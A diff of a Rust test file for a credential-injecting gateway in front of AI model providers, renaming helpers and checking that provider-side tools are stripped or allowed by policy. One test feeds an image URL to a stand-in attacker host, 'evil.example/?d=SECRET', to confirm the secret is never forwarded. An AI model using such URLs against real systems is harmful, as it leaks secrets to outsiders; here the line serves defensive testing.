@@ -2,20 +2,20 @@
 
 use ralph_core::net::ProviderTool;
 use ralph_core::secret::Secret;
-use ralph_gate::{Gate, Listener, Route};
+use ralph_gate::{Gate, Route, SandboxListener};
 use serde_json::{Value, json};
 
-use crate::support::{Heard, World, ask, body, header, status};
+use crate::support::{GateTestbed, ReceivedBytes, body, header, send, status};
 
 const ANSWER: &str =
     "HTTP/1.1 200 OK\r\ncontent-type: application/json\r\ncontent-length: 2\r\n\r\n{}";
 
 /// A gate with a credential of each wire, and what their providers hear.
-async fn providers(allowed: &[ProviderTool]) -> (World, Gate, Heard) {
-    let mut world = World::new();
+async fn start_providers(allowed: &[ProviderTool]) -> (GateTestbed, Gate, ReceivedBytes) {
+    let mut world = GateTestbed::new();
     world.provider_tools = allowed.iter().copied().collect();
     let heard = world
-        .tls_host("models.example:443", "models.example", ANSWER)
+        .start_tls_host("models.example:443", "models.example", ANSWER)
         .await;
     let secret = || Secret::new("sk-real-0123456789".to_owned());
     let url = "https://models.example";
@@ -23,7 +23,7 @@ async fn providers(allowed: &[ProviderTool]) -> (World, Gate, Heard) {
         Route::anthropic_compatible("anthropic", url, secret()).unwrap(),
         Route::openai_compatible("openai", url, secret()).unwrap(),
     ];
-    let (gate, _) = world.gate();
+    let (gate, _) = world.build_gate();
     (world, gate, heard)
 }
 
@@ -31,7 +31,10 @@ async fn providers(allowed: &[ProviderTool]) -> (World, Gate, Heard) {
 async fn post(gate: &Gate, path: &str, request: &Value) -> String {
     let name = path.split('/').nth(1).unwrap();
     let mut routes = gate.routes().iter();
-    let phantom = routes.find(|route| route.name() == name).unwrap().phantom();
+    let phantom = routes
+        .find(|route| route.name() == name)
+        .unwrap()
+        .placeholder();
     let text = request.to_string();
     let request = format!(
         "POST {path} HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer {}\r\nContent-Length: {}\r\n\
@@ -39,7 +42,7 @@ async fn post(gate: &Gate, path: &str, request: &Value) -> String {
         phantom.as_str(),
         text.len()
     );
-    ask(gate, Listener::Credentials, request).await
+    send(gate, SandboxListener::Credentials, request).await
 }
 
 fn image(url: &str) -> Value {
@@ -51,8 +54,8 @@ fn image(url: &str) -> Value {
 }
 
 #[tokio::test]
-async fn no_wire_makes_the_provider_fetch_a_secret_for_somebody() {
-    let (world, gate, heard) = providers(&[]).await;
+async fn no_wire_lets_the_provider_fetch_urls() {
+    let (world, gate, heard) = start_providers(&[]).await;
     let url = "https://evil.example/?d=SECRET";
     let chat = json!({"model": "m", "messages": [{"role": "user", "content": [
         {"type": "image_url", "image_url": {"url": url}},
@@ -90,7 +93,7 @@ async fn no_wire_makes_the_provider_fetch_a_secret_for_somebody() {
         assert!(!message.contains("SECRET"), "{message}");
     }
     assert_eq!(heard.text(), "", "the provider has heard nothing");
-    let audits = world.notes.audits.lock().unwrap();
+    let audits = world.sink.audits.lock().unwrap();
     let details: Vec<&str> = audits
         .iter()
         .filter_map(|it| it.detail.as_deref())
@@ -100,8 +103,8 @@ async fn no_wire_makes_the_provider_fetch_a_secret_for_somebody() {
 }
 
 #[tokio::test]
-async fn a_tool_of_the_provider_is_taken_out_of_the_request_and_recorded() {
-    let (world, gate, heard) = providers(&[]).await;
+async fn provider_tools_are_removed_from_the_request_and_recorded() {
+    let (world, gate, heard) = start_providers(&[]).await;
     let request = json!({"model": "m", "max_tokens": 1, "messages": [], "tools": [
         {"type": "web_search_20250305", "name": "web_search"},
         {"name": "Bash", "input_schema": {"type": "object"}},
@@ -115,22 +118,22 @@ async fn a_tool_of_the_provider_is_taken_out_of_the_request_and_recorded() {
         !sent.contains("web_search") && sent.contains("Bash"),
         "{sent}"
     );
-    let decisions = world.notes.wait_for_decisions(4).await;
+    let decisions = world.sink.wait_for_decisions(4).await;
     let removed = "credentials models.example:443 - provider-tool policy";
     assert_eq!(decisions.iter().filter(|it| *it == removed).count(), 2);
-    let tools = world.notes.tools.lock().unwrap();
+    let tools = world.sink.tools.lock().unwrap();
     assert_eq!(tools.len(), 1, "it is announced once");
     assert_eq!(tools[0].1.what, "the tool `web_search_20250305`");
 }
 
 #[tokio::test]
-async fn an_allowed_kind_passes_as_it_is_and_is_recorded() {
-    let (world, gate, heard) = providers(&[ProviderTool::Urls]).await;
+async fn allowed_kinds_pass_unchanged_and_are_recorded() {
+    let (world, gate, heard) = start_providers(&[ProviderTool::Urls]).await;
     let request = image("https://pictures.example/a.png");
     let answer = post(&gate, "/anthropic/v1/messages", &request).await;
     assert_eq!(status(&answer), 200, "{answer}");
     assert!(heard.text().contains("https://pictures.example/a.png"));
-    let decisions = world.notes.wait_for_decisions(2).await;
+    let decisions = world.sink.wait_for_decisions(2).await;
     let allowed = "credentials models.example:443 + provider-tool policy".to_owned();
     assert!(decisions.contains(&allowed), "{decisions:?}");
 }
